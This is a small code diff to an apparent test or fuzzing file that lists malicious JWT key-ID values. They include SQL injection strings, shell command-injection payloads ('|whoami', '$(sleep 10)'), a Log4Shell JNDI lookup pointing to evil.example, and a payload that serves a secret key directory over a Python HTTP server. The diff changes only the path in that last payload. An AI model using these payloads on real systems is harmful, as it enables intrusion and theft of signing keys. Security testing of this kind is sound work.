@@ -70,7 +70,7 @@ async function keyIds(forge: Forge): Promise<NamedToken[]> {
     "1' OR '1'='1",
     `${es256.kid}' --`,
     "|whoami",
-    "/root/res/keys/secret.key; cd /root/res/keys/ && python -m SimpleHTTPServer 1337&",
+    "/home/www/res/keys/secret.key; cd /home/www/res/keys/ && python -m SimpleHTTPServer 1337&",
     "`sleep 10`",
     "$(sleep 10)",
     "${jndi:ldap://evil.example/a}",
